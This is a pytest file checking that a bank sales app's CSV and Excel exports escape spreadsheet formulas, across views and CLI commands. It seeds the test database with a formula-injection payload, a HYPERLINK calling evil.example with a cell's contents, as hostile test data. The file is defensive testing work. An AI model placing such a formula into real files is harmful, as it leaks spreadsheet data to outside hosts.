"""Every file the application hands out is formula-escaped (issue 14, item 4).

1. Static: every ``download_button`` in ``views/*.py`` is enumerated from the source (AST) and must be listed in
   DOWNLOADS with the writer its data comes from; the data expression (or the function/assignment it names) must
   call that writer. A new download button fails this test until it is listed here, with a check below.
2. Dynamic: the pages are run in AppTest on the demo bank whose managers are all named like
   ``=HYPERLINK("http://evil.example/?"&C2,"x")`` (and with a sign-in attempt under that username, which needs
   no account), every download button actually drawn is intercepted, its bytes opened, and no cell of any file
   may be a formula or start like one; the hostile text must come out as ``'=HYPERLINK(...)``.
3. The CLI: ``export`` (.xlsx, .csv), ``commission --xlsx``, ``import --report``, ``template``.
"""
from __future__ import annotations

import ast
import csv
import io
import json
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import streamlit
from sqlalchemy import text, update
from streamlit.delta_generator import DeltaGenerator

from core import auth, ingest, store
from core.cli import main as cli_main
from core.scope import SYSTEM
from core.export import FORMULA_PREFIXES, escape_formula, frame_to_csv, frame_to_xlsx
from core.store import tables as t
from tests.views.conftest import demo_db_file, demo_db_url  # noqa: F401  (fixtures)
from tests.views.helpers import run_page

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = '=HYPERLINK("http://evil.example/?"&C2,"x")'
ESCAPED = "'" + HOSTILE
# a daily log with an unknown employee, a bad number and the hostile text as its note (CSV-quoted)
BAD_CSV = "日期,工号,拜访客户数,工作日志\n2026-11-02,NOPE,x,\"" + HOSTILE.replace('"', '""') + "\"\n"

# (views file, key of the button as written in the source) → the writer that produces its data.
# "static": bytes of a file shipped with the application (no user data); "png": an image (no cells).
DOWNLOADS = {
    ("views/commission.py", "f'cm_dl_{stmt.employee_id}_{stmt.period}'"): "statement_xlsx",
    ("views/monthly.py", "'monthly_xlsx'"): "xlsx",
    ("views/monthly.py", "f'monthly_png_{i}'"): "chart_png",
    ("views/weekly.py", "'weekly_xlsx'"): "xlsx",
    ("views/weekly.py", "'weekly_template'"): "template",      # the team's daily template, names pre-filled
    ("views/settings_accounts.py", "'audit_download'"): "frame_to_csv",
    ("views/settings_plans.py", "'sp_sample'"): "read_bytes",
    ("views/upload.py", "f'upl_report_{kind}'"): "problems_report_xlsx",
    ("views/upload.py", "f'upl_tpl_{kind}'"): "template_xlsx",
    # the uploader's own file given back with his corrections (core/ingest/corrections.py download_bytes: .xlsx
    # cells are text, a CSV goes through escape_formula); kept in the session between runs, so the AST cannot
    # follow it: the module must call the writer, and test_corrected_download_is_escaped checks its output
    ("views/upload_mappings.py", "f'upl_fix_dl_{kind}_{i}'"): ("download_bytes", "session"),
}


# ---------------------------------------------------------------- checking a file

def _looks_like_formula(value) -> bool:
    """Text a spreadsheet would run (a plain number such as -2 in a CSV is a number, not a formula)."""
    if not isinstance(value, str):
        return False
    try:
        float(value)
        return False
    except ValueError:
        return value.lstrip(" \u3000").startswith(FORMULA_PREFIXES)


def xlsx_cells(data: bytes) -> list:
    """Every cell of every sheet; raises if a cell is a formula (data_type 'f')."""
    wb = openpyxl.load_workbook(io.BytesIO(data))
    cells = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"formula in {ws.title}!{c.coordinate}: {c.value!r}"
                cells.append(c.value)
    return cells


def csv_cells(data: bytes) -> list:
    return [v for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for v in row]


def assert_escaped(cells: list, must_contain_hostile: bool = True) -> None:
    bad = [v for v in cells if _looks_like_formula(v)]
    assert bad == [], f"unescaped formula text: {bad[:3]}"
    if must_contain_hostile:
        assert any(isinstance(v, str) and "evil.example" in v for v in cells), "the hostile text is not in the file"


# ---------------------------------------------------------------- the writer itself

@pytest.mark.parametrize("value,expected", [
    (HOSTILE, ESCAPED),
    ("  =1+1", "'  =1+1"),            # leading spaces are stripped by some programs when a CSV is opened
    ("\u3000=1+1", "'\u3000=1+1"),    # ideographic space, same
    ("\uff1dSUM(A1)", "'\uff1dSUM(A1)"),   # full-width ＝ typed with a Chinese input method
    ("\n=1+1", "'\n=1+1"),
    ("张伟", "张伟"), ("a=b", "a=b"), (3, 3), (None, None),
])
def test_escape_formula_cases(value, expected):
    assert escape_formula(value) == expected


@pytest.mark.parametrize("dtype", [object, "string", "category"])
def test_frame_writers_escape_every_text_column_and_header(dtype):
    df = pd.DataFrame({"name": pd.Series([HOSTILE, "张伟"], dtype=dtype), "n": [1, -2], HOSTILE: ["a", "b"]})
    for cells in (csv_cells(frame_to_csv(df)), xlsx_cells(frame_to_xlsx(df))):
        assert_escaped(cells)
        assert "-2" in [str(c) for c in cells] or -2 in cells   # numbers stay numbers


# ---------------------------------------------------------------- 1. static enumeration

def _calls_in(node) -> set[str]:
    out = set()
    for n in ast.walk(node):
        if isinstance(n, ast.Call):
            f = n.func
            out.add(f.attr if isinstance(f, ast.Attribute) else f.id if isinstance(f, ast.Name) else "")
    return out


def _writers_of(tree: ast.Module, func: ast.AST, expr: ast.AST, depth: int = 0) -> set[str]:
    """Calls that produce `expr`: its own calls; for a name, the calls of the nested def / assignments that
    bind it in the enclosing function (or, for a parameter, anywhere in the module); module-level helper
    functions are followed one level."""
    calls = _calls_in(expr)
    if isinstance(expr, ast.Name):
        scopes = [func, tree]
        for scope in scopes:
            for n in ast.walk(scope):
                if isinstance(n, (ast.FunctionDef, ast.AsyncFunctionDef)) and n.name == expr.id:
                    calls |= _calls_in(n)
                elif isinstance(n, ast.Assign) and any(isinstance(tg, ast.Name) and tg.id == expr.id
                                                       for tg in n.targets):
                    calls |= _calls_in(n.value)
                elif isinstance(n, ast.Assign) and any(isinstance(tg, ast.Subscript) for tg in n.targets) \
                        and isinstance(n.value, ast.Dict):
                    calls |= _calls_in(n.value)
    if depth == 0:
        helpers = {n.name: n for n in tree.body if isinstance(n, ast.FunctionDef)}
        for name in list(calls):
            if name in helpers:
                calls |= _calls_in(helpers[name])
    return calls


def _download_buttons():
    found = {}
    for path in sorted((ROOT / "views").glob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for func in ast.walk(tree):
            if not isinstance(func, (ast.FunctionDef, ast.AsyncFunctionDef)):
                continue
            for call in ast.walk(func):
                if not (isinstance(call, ast.Call) and isinstance(call.func, ast.Attribute)
                        and call.func.attr == "download_button"):
                    continue
                kw = {k.arg: k.value for k in call.keywords}
                data = kw.get("data", call.args[1] if len(call.args) > 1 else None)
                key = ast.unparse(kw["key"]) if "key" in kw else None
                name = (str(path.relative_to(ROOT)), key)
                found[name] = _writers_of(tree, func, data)
    return found


def test_every_download_button_is_listed_with_its_escaping_writer():
    found = _download_buttons()
    assert set(found) == set(DOWNLOADS), ("download buttons changed: list each new one in DOWNLOADS with the "
                                         "escaping writer it uses, and check its output below")
    for name, writer in DOWNLOADS.items():
        if isinstance(writer, tuple):     # data kept in the session: the page module must call the writer
            assert f"{writer[0]}(" in (ROOT / name[0]).read_text(encoding="utf-8"), name
            continue
        assert writer in found[name], f"{name}: data does not come from {writer} (found {sorted(found[name])})"


def test_no_view_writes_csv_or_excel_by_itself():
    """Only core.export (and the xlsx builders of core) write files: no .to_csv / .to_excel in views or ui."""
    for path in list((ROOT / "views").glob("*.py")) + list((ROOT / "ui").glob("*.py")):
        calls = _calls_in(ast.parse(path.read_text(encoding="utf-8")))
        assert not calls & {"to_csv", "to_excel", "writer", "DictWriter"}, path.name


# ---------------------------------------------------------------- 2. every button drawn, on hostile data

@pytest.fixture
def hostile_db(demo_db_url):
    """The demo bank with every manager named like a formula, hostile notes, and a failed sign-in under a
    formula username (which needs no account)."""
    eng = store.get_engine(demo_db_url)
    with eng.begin() as conn:
        ids = [r[0] for r in conn.execute(text("SELECT employee_id FROM managers"))]
        for eid in ids:
            conn.execute(update(t.managers).where(t.managers.c.employee_id == eid).values(
                name=HOSTILE.replace('"x"', f'"{eid}"')))
        conn.execute(update(t.daily_logs).values(notes=HOSTILE))
    res = auth.authenticate(eng, HOSTILE, "wrong-password-1")
    assert not res.ok
    return demo_db_url


@pytest.fixture
def captured(monkeypatch):
    """Every download button drawn during the run: (key, mime, bytes)."""
    got = []
    original = DeltaGenerator.download_button

    def spy(self, label, data=None, *args, **kwargs):
        body = data() if callable(data) else data
        got.append((kwargs.get("key"), kwargs.get("mime"), body if isinstance(body, bytes) else str(body).encode()))
        return original(self, label, data, *args, **kwargs)

    monkeypatch.setattr(DeltaGenerator, "download_button", spy)
    monkeypatch.setattr(streamlit, "download_button",
                        lambda *a, **k: spy(streamlit._main, *a, **k))
    return got


@pytest.mark.parametrize("page,username,expect_keys,session", [
    ("views/weekly.py", "demo_director", {"weekly_xlsx"}, {}),
    ("views/weekly.py", "demo_lead", {"weekly_xlsx", "weekly_template"}, {}),   # the pre-filled template too
    ("views/monthly.py", "demo_director", {"monthly_xlsx"}, {}),
    ("views/commission.py", "demo_director", {"cm_dl_"}, {}),
    # the audit trail with sign-in attempts shown (hidden by default)
    ("views/settings.py", "demo_director", {"audit_download", "sp_sample"}, {"audit_hide_logins": False}),
    ("views/upload.py", "demo_director", {"upl_tpl_daily"}, {}),
])
def test_every_download_on_a_page_is_escaped(hostile_db, captured, page, username, expect_keys, session):
    at = run_page(page, hostile_db, username, lang="zh", session=session)
    assert not at.exception, at.exception
    keys = [k for k, _m, _d in captured]
    for want in expect_keys:
        assert any(k and k.startswith(want) for k in keys), (want, keys)
    for key, mime, data in captured:
        if mime == "image/png":
            assert data.startswith(b"\x89PNG")
        elif mime == "text/yaml":
            assert data == (ROOT / "sample_data" / "plan_2026.yaml").read_bytes() or b"HYPERLINK" not in data
        elif mime == "text/csv":
            assert_escaped(csv_cells(data))
        else:
            # templates carry no user data; every other workbook shows the managers' names
            assert_escaped(xlsx_cells(data), must_contain_hostile=not key.startswith("upl_tpl_"))


def test_problem_report_escapes_the_uploaded_cells(sqlite_engine):
    """The upload page's report (views/upload.py upl_report_*) gives the file back with its cells escaped."""
    files = [("d.csv", BAD_CSV.encode("utf-8"))]
    outcome = ingest.import_files(sqlite_engine, SYSTEM, "daily", files, dry_run=True)
    assert outcome.problems   # unknown employee, bad number
    assert_escaped(xlsx_cells(ingest.problems_report_xlsx(files, outcome.problems, "zh")))


# ---------------------------------------------------------------- 3. the CLI

def _cli(*args) -> int:
    return cli_main([str(a) for a in args])


def test_cli_exports_are_escaped(hostile_db, tmp_path, capsys):
    url = hostile_db
    out_x, out_c = tmp_path / "e.xlsx", tmp_path / "e.csv"
    assert _cli("--db", url, "export", out_x) == 0
    assert_escaped(xlsx_cells(out_x.read_bytes()))
    assert _cli("--db", url, "export", out_c) == 0
    assert_escaped(csv_cells(out_c.read_bytes()))
    stmt = tmp_path / "s.xlsx"
    assert _cli("--db", url, "commission", "--period", "2026-11", "--manager", "CM002", "--xlsx", stmt) == 0
    assert_escaped(xlsx_cells(stmt.read_bytes()))
    tpl = tmp_path / "t.xlsx"
    assert _cli("--db", url, "template", "daily", tpl) == 0
    assert_escaped(xlsx_cells(tpl.read_bytes()), must_contain_hostile=False)
    bad = tmp_path / "bad.csv"
    bad.write_text(BAD_CSV, encoding="utf-8")
    report = tmp_path / "report.xlsx"
    assert _cli("--db", url, "import", bad, "--report", report) == 1
    assert_escaped(xlsx_cells(report.read_bytes()))
    capsys.readouterr()
    assert _cli("--db", url, "--json", "export") == 0      # JSON is data, not a spreadsheet: kept as typed
    rows = json.loads(capsys.readouterr().out)
    assert rows and rows[0]["notes"] == HOSTILE


@pytest.mark.parametrize("cells, expected", [
    # hostile text gets the apostrophe; numbers (negative too), dates and plain text stay as typed
    (["2026-11-03", "CM001", HOSTILE, "-5", "1,234.5", "@SUM(A1)", "-拜访3户", "正常"],
     ["2026-11-03", "CM001", "'" + HOSTILE, "-5", "1,234.5", "'@SUM(A1)", "'-拜访3户", "正常"]),
])
def test_corrected_download_is_escaped(cells, expected):
    from core.ingest.corrections import download_bytes
    raw = ("日期,工号,客户经理,拜访客户数,新增存款(万元),备注,工作日志,团队\r\n" + ",".join(
        f'"{c}"' if ("," in c or '"' in c) else c for c in [v.replace('"', '""') for v in cells]) + "\r\n")
    out = download_bytes("fixed.csv", raw.encode("utf-8-sig")).decode("utf-8-sig")
    row = list(__import__("csv").reader(__import__("io").StringIO(out)))[1]
    assert row == expected
    assert not any(_looks_like_formula(v) for v in row)
    assert download_bytes("fixed.xlsx", b"PK-bytes") == b"PK-bytes"   # a workbook's text cells are text already
